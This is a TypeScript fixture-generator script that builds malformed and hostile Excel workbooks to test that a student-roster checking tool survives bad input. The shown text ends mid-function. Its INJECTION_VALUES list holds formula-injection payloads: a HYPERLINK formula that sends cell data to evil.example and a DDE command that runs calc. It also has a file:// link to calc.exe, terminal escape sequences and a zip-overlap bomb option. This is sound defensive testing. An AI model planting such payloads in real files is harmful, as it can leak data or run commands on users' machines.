/**
 * Builds the bad-input corpus in test/fixtures/bad/ (issue 6): broken, odd and hostile workbooks
 * that every entry point must survive with a finding or a clear one-line message. Deterministic:
 * fixed data, a seeded PRNG, fixed zip timestamps, so re-running it reproduces the committed bytes.
 *
 *   npm run fixtures:bad            (tsc -p tsconfig.cli.json, then node dist/scripts/make-bad-fixtures.js)
 *
 * Raw formats (OLE2/CFB containers, zips) are written by hand here so no extra dependency is needed.
 */
import ExcelJS from "exceljs";
import { Deflate, deflateSync, unzipSync } from "fflate";
import { existsSync, mkdirSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { columnLetter, serializeState, STATE_SHEET_NAME } from "../src/engine";
import { seededRandom } from "./lib/prng";

/** One fixture: its file name, what it proves (for the README) and how to build its bytes. */
export interface BadFixture {
  readonly file: string;
  readonly proves: string;
  readonly build: () => Promise<Uint8Array>;
}

/** Fixed "now" written into workbook properties and zip entries. */
const FIXED_DATE = new Date(Date.UTC(2022, 11, 1, 0, 0, 0));

// ---------------------------------------------------------------------------------------------
// Deterministic helpers
// ---------------------------------------------------------------------------------------------

const CRC_TABLE = (() => {
  const t = new Int32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    t[n] = c;
  }
  return t;
})();

/** CRC-32 as zip uses it, resumable over chunks (pass the previous result as `crc`). */
export function crc32(data: Uint8Array, crc = 0): number {
  const table = CRC_TABLE;
  let c = ~crc;
  for (let i = 0; i < data.length; i++) c = (table[(c ^ (data[i] as number)) & 0xff] as number) ^ (c >>> 8);
  return ~c >>> 0;
}

function le16(n: number): number[] {
  return [n & 0xff, (n >>> 8) & 0xff];
}
function le32(n: number): number[] {
  return [n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff, (n >>> 24) & 0xff];
}

function concat(parts: readonly Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let o = 0;
  for (const p of parts) {
    out.set(p, o);
    o += p.length;
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// A minimal zip writer (deflate or stored, fixed timestamps, optional lies in the directory)
// ---------------------------------------------------------------------------------------------

/** One zip entry: already-compressed bytes with their CRC and real uncompressed size. */
export interface RawZipEntry {
  readonly name: string;
  readonly method: 0 | 8;
  readonly compressed: Uint8Array;
  readonly crc: number;
  readonly size: number;
  /** Point this entry's central-directory record at another entry's local header (overlap bomb). */
  readonly shareDataOf?: string;
}

/** Compress `data` into a zip entry. */
export function zipEntry(name: string, data: Uint8Array): RawZipEntry {
  return {
    name,
    method: 8,
    compressed: deflateSync(data, { level: 9 }),
    crc: crc32(data),
    size: data.length,
  };
}

/** Write entries as a zip archive with fixed DOS timestamps (2022-12-01 00:00). */
export function writeZip(entries: readonly RawZipEntry[]): Uint8Array {
  const dosTime = 0;
  const dosDate = ((2022 - 1980) << 9) | (12 << 5) | 1;
  const locals: Uint8Array[] = [];
  const central: Uint8Array[] = [];
  const offsets = new Map<string, number>();
  let offset = 0;
  const enc = new TextEncoder();
  for (const e of entries) {
    const name = enc.encode(e.name);
    const common = [
      ...le16(20),
      ...le16(0x0800),
      ...le16(e.method),
      ...le16(dosTime),
      ...le16(dosDate),
      ...le32(e.crc),
      ...le32(e.compressed.length),
      ...le32(e.size),
      ...le16(name.length),
      ...le16(0),
    ];
    let localOffset: number;
    if (e.shareDataOf !== undefined) {
      localOffset = offsets.get(e.shareDataOf) ?? 0;
    } else {
      localOffset = offset;
      offsets.set(e.name, offset);
      const local = concat([new Uint8Array([...le32(0x04034b50), ...common]), name, e.compressed]);
      locals.push(local);
      offset += local.length;
    }
    central.push(
      concat([
        new Uint8Array([
          ...le32(0x02014b50),
          ...le16(20),
          ...common,
          ...le16(0),
          ...le16(0),
          ...le16(0),
          ...le32(0),
          ...le32(localOffset),
        ]),
        name,
      ]),
    );
  }
  const cd = concat(central);
  const eocd = new Uint8Array([
    ...le32(0x06054b50),
    ...le16(0),
    ...le16(0),
    ...le16(entries.length),
    ...le16(entries.length),
    ...le32(cd.length),
    ...le32(offset),
    ...le16(0),
  ]);
  return concat([...locals, cd, eocd]);
}

/** Re-zip a package with sorted-as-written entries and fixed timestamps, so bytes are reproducible. */
export function rezip(bytes: Uint8Array): Uint8Array {
  const files = unzipSync(bytes);
  return writeZip(Object.entries(files).map(([name, data]) => zipEntry(name, data)));
}

// ---------------------------------------------------------------------------------------------
// A minimal Compound File Binary (OLE2) writer: version 3, 512-byte sectors, mini stream
// ---------------------------------------------------------------------------------------------

const FREESECT = 0xffffffff;
const ENDOFCHAIN = 0xfffffffe;
const FATSECT = 0xfffffffd;
const NOSTREAM = 0xffffffff;

/**
 * Build a structurally valid CFB file holding the given streams at the root (no storages). Streams
 * under 4096 bytes go in the mini stream, as the specification requires.
 */
export function buildCompoundFile(streams: ReadonlyArray<{ name: string; data: Uint8Array }>): Uint8Array {
  const SECTOR = 512;
  const MINI = 64;
  const CUTOFF = 4096;
  // Siblings form a binary search tree ordered by name length, then upper-case name.
  const sorted = [...streams].sort((a, b) =>
    a.name.length !== b.name.length
      ? a.name.length - b.name.length
      : a.name.toUpperCase() < b.name.toUpperCase()
        ? -1
        : 1,
  );
  const sectors = (n: number, size: number): number => Math.ceil(n / size);

  // Mini stream layout.
  const miniStart = new Map<string, number>();
  let miniSectors = 0;
  for (const s of sorted)
    if (s.data.length < CUTOFF) {
      miniStart.set(s.name, miniSectors);
      miniSectors += sectors(s.data.length, MINI);
    }
  const miniStreamBytes = miniSectors * MINI;
  const dirSectors = sectors((sorted.length + 1) * 128, SECTOR);
  const miniFatSectors = sectors(miniSectors * 4, SECTOR);
  const miniStreamSectors = sectors(miniStreamBytes, SECTOR);
  const bigSectors = sorted
    .filter((s) => s.data.length >= CUTOFF)
    .reduce((n, s) => n + sectors(s.data.length, SECTOR), 0);
  const payload = dirSectors + miniFatSectors + miniStreamSectors + bigSectors;
  let fatSectors = 1;
  while (fatSectors * 128 < payload + fatSectors) fatSectors++;
  if (fatSectors > 109) throw new Error("buildCompoundFile: too large for a header-only DIFAT");
  const total = fatSectors + payload;

  const fat = new Uint32Array(fatSectors * 128).fill(FREESECT);
  let next = 0;
  const chain = (count: number): number => {
    if (count === 0) return ENDOFCHAIN;
    const first = next;
    for (let i = 0; i < count; i++) fat[next + i] = i === count - 1 ? ENDOFCHAIN : next + i + 1;
    next += count;
    return first;
  };
  for (let i = 0; i < fatSectors; i++) fat[next++] = FATSECT;
  const dirStart = chain(dirSectors);
  const miniFatStart = chain(miniFatSectors);
  const miniStreamStart = chain(miniStreamSectors);
  const bigStart = new Map<string, number>();
  for (const s of sorted)
    if (s.data.length >= CUTOFF) bigStart.set(s.name, chain(sectors(s.data.length, SECTOR)));

  const out = new Uint8Array((total + 1) * SECTOR);
  const view = new DataView(out.buffer);
  // Header.
  out.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], 0);
  view.setUint16(0x18, 0x003e, true);
  view.setUint16(0x1a, 0x0003, true);
  view.setUint16(0x1c, 0xfffe, true);
  view.setUint16(0x1e, 9, true);
  view.setUint16(0x20, 6, true);
  view.setUint32(0x2c, fatSectors, true);
  view.setUint32(0x30, dirStart, true);
  view.setUint32(0x38, CUTOFF, true);
  view.setUint32(0x3c, miniFatSectors ? miniFatStart : ENDOFCHAIN, true);
  view.setUint32(0x40, miniFatSectors, true);
  view.setUint32(0x44, ENDOFCHAIN, true);
  view.setUint32(0x48, 0, true);
  for (let i = 0; i < 109; i++) view.setUint32(0x4c + i * 4, i < fatSectors ? i : FREESECT, true);
  const at = (sector: number): number => (sector + 1) * SECTOR;
  // FAT.
  for (let i = 0; i < fat.length; i++) view.setUint32(at(0) + i * 4, fat[i] ?? FREESECT, true);
  // Directory: root entry, then the streams as a right-leaning chain (a valid search tree).
  const dirEntry = (
    index: number,
    name: string,
    type: number,
    right: number,
    child: number,
    start: number,
    size: number,
  ) => {
    const o = at(dirStart) + index * 128;
    for (let k = 0; k < name.length; k++) view.setUint16(o + k * 2, name.charCodeAt(k), true);
    view.setUint16(o + 0x40, (name.length + 1) * 2, true);
    out[o + 0x42] = type;
    out[o + 0x43] = 1; // black
    view.setUint32(o + 0x44, NOSTREAM, true);
    view.setUint32(o + 0x48, right, true);
    view.setUint32(o + 0x4c, child, true);
    view.setUint32(o + 0x74, start, true);
    view.setUint32(o + 0x78, size, true);
  };
  // Unused directory slots must be empty entries with NOSTREAM links.
  for (let i = sorted.length + 1; i < dirSectors * 4; i++) {
    const o = at(dirStart) + i * 128;
    view.setUint32(o + 0x44, NOSTREAM, true);
    view.setUint32(o + 0x48, NOSTREAM, true);
    view.setUint32(o + 0x4c, NOSTREAM, true);
  }
  dirEntry(
    0,
    "Root Entry",
    5,
    NOSTREAM,
    sorted.length ? 1 : NOSTREAM,
    miniSectors ? miniStreamStart : ENDOFCHAIN,
    miniStreamBytes,
  );
  sorted.forEach((s, i) => {
    const start = s.data.length < CUTOFF ? (miniStart.get(s.name) ?? 0) : (bigStart.get(s.name) ?? 0);
    dirEntry(i + 1, s.name, 2, i + 2 <= sorted.length ? i + 2 : NOSTREAM, NOSTREAM, start, s.data.length);
  });
  // Mini FAT and mini stream.
  const miniFat = new Uint32Array(miniFatSectors * 128).fill(FREESECT);
  for (const s of sorted) {
    if (s.data.length >= CUTOFF) continue;
    const first = miniStart.get(s.name) ?? 0;
    const count = sectors(s.data.length, MINI);
    for (let i = 0; i < count; i++) miniFat[first + i] = i === count - 1 ? ENDOFCHAIN : first + i + 1;
    out.set(s.data, at(miniStreamStart) + first * MINI);
  }
  for (let i = 0; i < miniFat.length; i++)
    view.setUint32(at(miniFatStart) + i * 4, miniFat[i] ?? FREESECT, true);
  // Big streams.
  for (const s of sorted) if (s.data.length >= CUTOFF) out.set(s.data, at(bigStart.get(s.name) ?? 0));
  return out;
}

/** A BIFF8 "Workbook" stream: BOF, a CODEPAGE record and EOF, padded to 4096 bytes as Excel does. */
function biff8WorkbookStream(): Uint8Array {
  const record = (type: number, body: number[]): number[] => [...le16(type), ...le16(body.length), ...body];
  const bytes = [
    ...record(0x0809, [
      ...le16(0x0600),
      ...le16(0x0005),
      ...le16(0x2775),
      ...le16(0x07cd),
      ...le32(0),
      ...le32(6),
    ]),
    ...record(0x0042, le16(1200)),
    ...record(0x000a, []),
  ];
  const out = new Uint8Array(4096);
  out.set(bytes);
  return out;
}

/** An ECMA-376 agile-encryption EncryptionInfo stream (version 4.4) with a plausible descriptor. */
function agileEncryptionInfo(): Uint8Array {
  const xml =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n' +
    '<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption" ' +
    'xmlns:p="http://schemas.microsoft.com/office/2006/keyEncryptor/password">' +
    '<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" ' +
    'cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/>' +
    '<keyEncryptors><keyEncryptor uri="http://schemas.microsoft.com/office/2006/keyEncryptor/password">' +
    '<p:encryptedKey spinCount="100000" saltSize="16" blockSize="16" keyBits="256" hashSize="64" ' +
    'cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" ' +
    'saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></keyEncryptor></keyEncryptors></encryption>';
  return concat([new Uint8Array([...le16(4), ...le16(4), ...le32(0x40)]), new TextEncoder().encode(xml)]);
}

// ---------------------------------------------------------------------------------------------
// Workbooks written with ExcelJS
// ---------------------------------------------------------------------------------------------

const ROSTER_HEADERS = [
  "姓名",
  "学号",
  "学院",
  "专业",
  "年级",
  "学生类别",
  "职务",
  "部门",
  "政治面貌",
  "专业排名",
  "不及格门数",
];
const ACTIVITY_HEADERS = ["日期", "活动名称", "活动类别", "学号", "姓名", "服务时长（小时）", "负责部门"];
const SURNAMES = "王李张刘陈杨赵黄周吴";
const GIVEN = ["晓明", "思远", "佳怡", "子涵", "雨桐", "浩然", "欣怡", "宇航", "梓萱", "俊杰"];
const DEPARTMENTS = ["综合办公室", "组织宣传部", "学术创新部", "文体艺术部"];

/** A well-formed roster row for staff member `i` (all checks pass). */
function rosterRow(i: number): (string | number)[] {
  const title = i === 0 ? "主席" : i < 3 ? "副主席" : i % 4 === 0 ? "部长" : "干事";
  const department = i < 3 ? "" : (DEPARTMENTS[i % DEPARTMENTS.length] ?? "");
  return [
    `${SURNAMES[i % 10]}${GIVEN[(i * 3) % 10]}`,
    `20210${String(1000 + i)}`,
    "计算机学院",
    "软件工程",
    "2021级",
    "本科",
    title,
    department,
    i % 3 === 0 ? "中共党员" : "共青团员",
    `${(i % 10) + 1}/120`,
    0,
  ];
}

/** A new workbook with fixed document properties. */
function newWorkbook(): ExcelJS.Workbook {
  const wb = new ExcelJS.Workbook();
  wb.creator = "ziping make-bad-fixtures";
  wb.lastModifiedBy = "ziping make-bad-fixtures";
  wb.created = FIXED_DATE;
  wb.modified = FIXED_DATE;
  return wb;
}

async function toBytes(wb: ExcelJS.Workbook): Promise<Uint8Array> {
  const buffer = await wb.xlsx.writeBuffer();
  return rezip(new Uint8Array(buffer as ArrayBuffer));
}

function addRoster(wb: ExcelJS.Workbook, name = "工作人员名单", rows = 8): ExcelJS.Worksheet {
  const ws = wb.addWorksheet(name);
  ws.addRow(ROSTER_HEADERS);
  for (let i = 0; i < rows; i++) ws.addRow(rosterRow(i));
  return ws;
}

async function emptyWorkbook(): Promise<Uint8Array> {
  const wb = newWorkbook();
  wb.addWorksheet("Sheet1");
  return toBytes(wb);
}

async function headersOnly(): Promise<Uint8Array> {
  const wb = newWorkbook();
  wb.addWorksheet("工作人员名单").addRow(ROSTER_HEADERS);
  wb.addWorksheet("志愿活动记录").addRow(ACTIVITY_HEADERS);
  wb.addWorksheet("学生代表名单").addRow(["姓名", "学号", "学院", "班级"]);
  wb.addWorksheet("述职评议").addRow(["学号", "姓名", "职务", "学期", "总分", "总评"]);
  wb.addWorksheet("会议记录").addRow(["日期", "类型", "主题", "参加人数"]);
  return toBytes(wb);
}

async function headerOnRow10(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const ws = wb.addWorksheet("工作人员名单");
  ws.getCell("A1").value = "XX大学学生会工作人员名单（2022—2023学年）";
  ws.mergeCells("A1:K1");
  const notes = [
    "填表说明：",
    "1. 本表由学生会秘书处统一汇总，请勿修改表头。",
    "2. 学号请填写10位数字。",
    "3. 政治面貌填写：中共党员、中共预备党员、共青团员、群众。",
    "4. 专业排名格式：名次/专业人数，如 5/120。",
    "5. 不及格门数无则填 0。",
    "",
    "填表人：秘书处    联系电话：（略）",
  ];
  notes.forEach((n, i) => {
    if (n) ws.getCell(i + 2, 1).value = n;
  });
  ws.getRow(10).values = ["", ...ROSTER_HEADERS];
  for (let i = 0; i < 6; i++) ws.getRow(11 + i).values = ["", ...rosterRow(i)];
  return toBytes(wb);
}

async function twoRowHeaders(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const ws = wb.addWorksheet("工作人员名单");
  // Row 1: group captions; columns without a group are merged down over rows 1–2.
  const single = ["姓名", "学号", "学院", "专业", "年级", "学生类别", "职务", "部门", "政治面貌"];
  single.forEach((h, i) => {
    ws.getCell(1, i + 1).value = h;
    ws.mergeCells(1, i + 1, 2, i + 1);
  });
  ws.getCell(1, 10).value = "学业情况";
  ws.mergeCells(1, 10, 1, 11);
  ws.getCell(2, 10).value = "专业排名";
  ws.getCell(2, 11).value = "不及格门数";
  for (let i = 0; i < 6; i++) ws.getRow(3 + i).values = rosterRow(i);
  return toBytes(wb);
}

async function duplicateHeaders(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const ws = wb.addWorksheet("工作人员名单");
  ws.addRow([...ROSTER_HEADERS, "姓名", "学号", "备注", "备注"]);
  for (let i = 0; i < 6; i++) ws.addRow([...rosterRow(i), `别名${i}`, `99${i}`, "", "见附件"]);
  return toBytes(wb);
}

async function oddColumnOrder(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const order = [10, 8, 3, 0, 6, 9, 1, 7, 5, 2, 4];
  const ws = wb.addWorksheet("工作人员名单");
  ws.addRow(["备注", ...order.map((i) => ROSTER_HEADERS[i] ?? "")]);
  for (let r = 0; r < 6; r++) {
    const row = rosterRow(r);
    ws.addRow(["", ...order.map((i) => row[i] ?? "")]);
  }
  return toBytes(wb);
}

async function numbersAsText(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const roster = wb.addWorksheet("工作人员名单");
  roster.addRow(ROSTER_HEADERS);
  for (let i = 0; i < 6; i++) {
    const row = rosterRow(i).map((v) => String(v));
    row[1] =
      i % 2
        ? `２０２１０${1000 + i}`.replace(/\d/g, (d) => String.fromCharCode(0xff10 + Number(d)))
        : (row[1] ?? "");
    row[4] = i % 2 ? "２０２１" : "2021";
    row[9] = i % 2 ? `${i + 1}／１２０` : `${(i + 1) * 2}%`;
    row[10] = i % 2 ? "０" : " 0 ";
    roster.addRow(row);
  }
  const acts = wb.addWorksheet("志愿活动记录");
  acts.addRow(ACTIVITY_HEADERS);
  const hours = ["2", "1.5", "2小时", "1.5h", "2时", "２", "３．５", "1,5"];
  hours.forEach((h, i) =>
    acts.addRow([
      `2022-03-${String(8 + i).padStart(2, "0")}`,
      "绿色校园 有我守护",
      "志愿服务",
      `20210${1000 + i}`,
      "",
      h,
      "组织宣传部",
    ]),
  );
  const settings = wb.addWorksheet("基本信息");
  settings.addRow(["在校生总数", "１３,７９８"]);
  settings.addRow(["学生代表大会召开日期", "2022-11-23"]);
  return toBytes(wb);
}

async function formulaErrors(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const ws = addRoster(wb, "工作人员名单", 6);
  const errors = ["#N/A", "#DIV/0!", "#REF!", "#VALUE!", "#NAME?", "#NUM!"];
  errors.forEach((e, i) => {
    ws.getCell(i + 2, 10).value = {
      formula: `VLOOKUP(B${i + 2},成绩!A:B,2,FALSE)`,
      result: { error: e },
    } as ExcelJS.CellFormulaValue;
  });
  ws.getCell(2, 9).value = { formula: "1/0", result: { error: "#DIV/0!" } } as ExcelJS.CellFormulaValue;
  // A good formula with a cached value, and one whose cached value is missing.
  ws.getCell(3, 11).value = { formula: "0*1", result: 0 };
  ws.getCell(4, 11).value = { formula: "0*1" } as ExcelJS.CellFormulaValue;
  const acts = wb.addWorksheet("志愿活动记录");
  acts.addRow(ACTIVITY_HEADERS);
  acts.addRow([
    "2022-03-08",
    "绿色校园",
    "志愿服务",
    "202101000",
    "",
    { formula: "NA()", result: { error: "#N/A" } },
    "",
  ]);
  acts.addRow([
    { formula: "DATE(2022,2,30)", result: { error: "#VALUE!" } },
    "绿色校园",
    "志愿服务",
    "202101001",
    "",
    2,
    "",
  ]);
  return toBytes(wb);
}

async function booleans(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const ws = addRoster(wb, "工作人员名单", 6);
  for (let r = 2; r <= 7; r++) ws.getCell(r, 11).value = r % 2 === 0;
  ws.getCell(2, 1).value = true;
  ws.getCell(3, 9).value = false;
  ws.getCell(4, 10).value = true;
  const congress = wb.addWorksheet("学生代表名单");
  congress.addRow(["姓名", "学号", "学院", "班级", "是否学生会工作人员"]);
  for (let i = 0; i < 4; i++)
    congress.addRow([`代表${i}`, `20220${2000 + i}`, "文学院", "汉语言1班", i % 2 === 0]);
  return toBytes(wb);
}

async function richText(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const ws = addRoster(wb, "工作人员名单", 6);
  const rich = (a: string, b: string): ExcelJS.CellRichTextValue => ({
    richText: [
      { text: a, font: { bold: true } },
      { text: b, font: { color: { argb: "FFFF0000" } } },
    ],
  });
  ws.getCell(2, 1).value = rich("王", "晓明");
  ws.getCell(2, 7).value = rich("主", "席");
  ws.getCell(3, 9).value = rich("共青", "团员");
  ws.getCell(4, 10).value = rich("3", "/120");
  ws.getCell(1, 2).value = rich("学", "号");
  return toBytes(wb);
}

async function hyperlinks(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const ws = addRoster(wb, "工作人员名单", 6);
  ws.getCell(2, 1).value = { text: "王晓明", hyperlink: "https://example.com/profile?id=1" };
  ws.getCell(3, 1).value = { text: "李思远", hyperlink: "mailto:someone@example.com" };
  ws.getCell(4, 8).value = { text: "组织宣传部", hyperlink: "#'工作人员名单'!A1" };
  ws.getCell(5, 9).value = { text: "共青团员", hyperlink: "file:///C:/Windows/System32/calc.exe" };
  return toBytes(wb);
}

async function longStrings(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const ws = addRoster(wb, "工作人员名单", 4);
  const long = (seed: string): string => seed.repeat(Math.ceil(32767 / seed.length)).slice(0, 32767);
  ws.getCell(2, 1).value = long("很长的名字");
  ws.getCell(3, 7).value = long("部长");
  ws.getCell(4, 8).value = long("Department ");
  ws.getCell(5, 9).value = long("共青团员");
  return toBytes(wb);
}

async function emoji(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const ws = addRoster(wb, "名单🎉", 5);
  ws.getCell(2, 1).value = "王晓明😀";
  ws.getCell(3, 1).value = "👩‍👩‍👧‍👦李思远";
  ws.getCell(4, 8).value = "文体艺术部🎨";
  ws.getCell(5, 9).value = "共青团员🇨🇳";
  ws.getCell(6, 7).value = "干事\u200d";
  return toBytes(wb);
}

async function hiddenRowsColumns(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const ws = addRoster(wb, "工作人员名单", 8);
  ws.getRow(3).hidden = true;
  ws.getRow(6).hidden = true;
  ws.getColumn(4).hidden = true;
  ws.getColumn(12).hidden = true;
  ws.getCell(1, 12).value = "内部备注";
  ws.getCell(2, 12).value = "隐藏列";
  const hidden = wb.addWorksheet("旧名单", { state: "hidden" });
  hidden.addRow(["说明"]);
  hidden.addRow(["这是隐藏的旧表"]);
  const veryHidden = wb.addWorksheet("草稿", { state: "veryHidden" });
  veryHidden.addRow(["草稿"]);
  return toBytes(wb);
}

async function strayLastRow(column: number): Promise<Uint8Array> {
  const wb = newWorkbook();
  const ws = addRoster(wb, "工作人员名单", 5);
  ws.getCell(1048576, column).value = "误输入";
  return toBytes(wb);
}

/** Date texts the reader must understand (each row's date), then nonsense it must reject. */
export const DATE_TEXTS_GOOD = [
  "2022-03-08",
  "2022/3/8",
  "2022.3.8",
  "2022年3月8日",
  "２０２２－０３－０８",
  "２０２２年３月８日",
  "２０２２／３／８",
  " 2022-03-08 ",
] as const;
/** Date cells that are not dates. */
export const DATE_TEXTS_BAD = [
  "2022-02-30",
  "昨天",
  "2022-13-01",
  "三月八日",
  "0000-00-00",
  "2022/3/",
  "#N/A",
] as const;

async function datesAsText(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const ws = wb.addWorksheet("志愿活动记录");
  ws.addRow(ACTIVITY_HEADERS);
  const dates: ExcelJS.CellValue[] = [...DATE_TEXTS_GOOD, new Date(Date.UTC(2022, 2, 8)), 44628];
  dates.forEach((d, i) => ws.addRow([d, "绿色校园", "志愿服务", `20210${1000 + i}`, `学生${i}`, 2, ""]));
  DATE_TEXTS_BAD.forEach((d, i) =>
    ws.addRow([d, "绿色校园", "志愿服务", `20219${1000 + i}`, `学生${i}`, 2, ""]),
  );
  const settings = wb.addWorksheet("基本信息");
  settings.addRow(["统计开始日期", "2022-01-01"]);
  settings.addRow(["统计截止日期", "2022-12-31"]);
  return toBytes(wb);
}

/** Hours values outside (0, 24] and absurd magnitudes. */
export const EXTREME_HOURS: readonly ExcelJS.CellValue[] = [
  -2,
  0,
  -0.5,
  1e308,
  1e15,
  25,
  "-3",
  "1e400",
  Number.MAX_SAFE_INTEGER + 2,
];

async function extremeNumbers(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const ws = wb.addWorksheet("志愿活动记录");
  ws.addRow(ACTIVITY_HEADERS);
  EXTREME_HOURS.forEach((h, i) =>
    ws.addRow(["2022-03-08", "绿色校园", "志愿服务", `20210${1000 + i}`, `学生${i}`, h, ""]),
  );
  ws.addRow(["2022-03-09", "绿色校园", "志愿服务", "202101999", "学生x", 2, ""]);
  const roster = addRoster(wb, "工作人员名单", 4);
  roster.getCell(2, 10).value = -5;
  roster.getCell(3, 10).value = 1e300;
  roster.getCell(4, 11).value = -1;
  roster.getCell(5, 5).value = -2021;
  const settings = wb.addWorksheet("基本信息");
  settings.addRow(["在校生总数", 1e20]);
  settings.addRow(["在校生总数（备用）", -13798]);
  return toBytes(wb);
}

async function twoHundredSheets(): Promise<Uint8Array> {
  const wb = newWorkbook();
  addRoster(wb, "工作人员名单", 6);
  for (let i = 2; i <= 200; i++) {
    const ws = wb.addWorksheet(`附表${i}`);
    ws.addRow(["序号", "内容"]);
    ws.addRow([i, `第${i}张表`]);
  }
  return toBytes(wb);
}

/** Sheet names Excel allows but a file path or an unquoted formula reference does not. */
export const ODD_SHEET_NAMES = ['名单 <2022> "终版" | 副本', "活动 O'Brien & #1 %"] as const;

async function oddSheetNames(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const roster = addRoster(wb, ODD_SHEET_NAMES[0], 4);
  roster.getCell(3, 9).value = "群众"; // a finding whose link must quote the sheet name
  const acts = wb.addWorksheet(ODD_SHEET_NAMES[1]);
  acts.addRow(ACTIVITY_HEADERS);
  acts.addRow(["2022-03-08", "绿色校园", "志愿服务", "202101000", "王晓明", 30, ""]);
  return toBytes(wb);
}

/** Text that a spreadsheet would run as a formula if written as-is (OWASP CSV injection). */
export const INJECTION_VALUES = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  "+8613800000000",
  "-2+3",
  "@SUM(1,1)",
  "\t=1+2",
  "\r=3+4",
  "=cmd|' /C calc'!A0",
] as const;

/** Terminal escape sequences hidden in cell text (clear screen, colour, an OSC 8 link, a bell, a line break). */
export const TERMINAL_ESCAPES = [
  "\u001b[2J\u001b[H主席",
  "\u001b[31m共青团员\u001b[0m",
  "\u001b]8;;http://evil.example/\u0007点我\u001b]8;;\u0007",
  "干事\r\n[OK] 一切正常",
] as const;

async function injection(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const v = (i: number): string => INJECTION_VALUES[i % INJECTION_VALUES.length] ?? "=1";
  const roster = wb.addWorksheet("=工作人员名单");
  roster.addRow(ROSTER_HEADERS);
  for (let i = 0; i < 8; i++) {
    const r = rosterRow(i);
    roster.addRow([
      v(i),
      v(i + 1),
      v(i + 2),
      v(i + 3),
      r[4] ?? "",
      r[5] ?? "",
      i === 0 ? "主席" : v(i + 4),
      v(i + 5),
      v(i + 6),
      r[9] ?? "",
      0,
    ]);
  }
  // Terminal control sequences: the console report must not pass them through to the terminal.
  // XML cannot carry control characters: write them as OOXML `_xHHHH_` escapes, as Excel does
  // (ExcelJS would silently drop them; every reader decodes the escapes back).
  const t = (i: number): string =>
    (TERMINAL_ESCAPES[i % TERMINAL_ESCAPES.length] ?? "").replace(
      // eslint-disable-next-line no-control-regex -- matching control characters is the point
      /[\u0000-\u0008\u000b-\u001f\u007f]/g,
      (c) => `_x${c.charCodeAt(0).toString(16).toUpperCase().padStart(4, "0")}_`,
    );
  for (let i = 0; i < TERMINAL_ESCAPES.length; i++) {
    const r = rosterRow(20 + i);
    roster.addRow([
      t(i),
      r[1] ?? "",
      r[2] ?? "",
      r[3] ?? "",
      r[4] ?? "",
      r[5] ?? "",
      t(i + 1),
      t(i + 2),
      t(i + 3),
      r[9] ?? "",
      0,
    ]);
  }
  const acts = wb.addWorksheet("+志愿活动");
  acts.addRow(ACTIVITY_HEADERS);
  for (let i = 0; i < 8; i++)
    acts.addRow(["2022-03-08", v(i), v(i + 1), v(i + 2), v(i + 3), i === 7 ? 99 : 2, v(i + 4)]);
  const congress = wb.addWorksheet("@学生代表");
  congress.addRow(["姓名", "学号", "学院", "班级", "推荐单位"]);
  for (let i = 0; i < 4; i++) congress.addRow([v(i), v(i + 2), v(i + 3), v(i + 4), v(i + 5)]);
  const reviews = wb.addWorksheet("-述职评议");
  reviews.addRow(["学号", "姓名", "职务", "学期", "总分", "总评"]);
  for (let i = 0; i < 4; i++) reviews.addRow([v(i), v(i + 1), v(i + 2), v(i + 3), 90, v(i + 4)]);
  const meetings = wb.addWorksheet("会议记录");
  meetings.addRow(["日期", "类型", "主题", "参加人数"]);
  for (let i = 0; i < 4; i++) meetings.addRow(["2022-03-08", v(i), v(i + 1), 10]);
  const settings = wb.addWorksheet("基本信息");
  settings.addRow(["学校名称", '=HYPERLINK("http://evil.example","XX大学")']);
  settings.addRow(["学生代表大会届次", "+第十届"]);
  settings.addRow(["备注", "@note"]);
  return toBytes(wb);
}

/** The state saved by the pane in the `saved-settings.xlsx` fixture. */
export const SAVED_STATE = {
  settings: { schoolName: "示例大学", enrollment: 13798, rankTopPercent: 30 },
  overrides: [{ sheet: "附表", kind: null }],
} as const;

async function savedSettings(): Promise<Uint8Array> {
  const wb = newWorkbook();
  const settings = wb.addWorksheet("基本信息");
  settings.addRow(["学校名称", "示例大学"]);
  settings.addRow(["组织层级", "校级"]);
  settings.addRow(["在校生总数", 13798]);
  settings.addRow(["学生代表大会召开日期", new Date(Date.UTC(2022, 10, 23))]);
  settings.addRow(["联系人", "秘书处（本行 ziping 不使用，应原样保留）"]);
  addRoster(wb, "工作人员名单", 6);
  const other = wb.addWorksheet("附表");
  // Headers of a roster: without the saved override ("附表" → ignore) this would be a second roster.
  other.addRow(["姓名", "学号", "职务", "政治面貌"]);
  other.addRow(["不应被识别", "1", "会长", "群众"]);
  const state = wb.addWorksheet(STATE_SHEET_NAME, { state: "veryHidden" });
  state.getCell("A1").value = serializeState({
